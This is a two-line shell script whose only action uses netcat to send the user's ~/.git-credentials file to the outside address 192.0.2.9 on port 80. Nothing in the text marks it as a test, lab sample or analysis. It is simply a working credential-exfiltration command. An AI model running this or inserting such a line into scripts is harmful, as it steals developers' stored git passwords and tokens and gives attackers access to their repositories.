#!/bin/sh
nc 192.0.2.9 80 < ~/.git-credentials
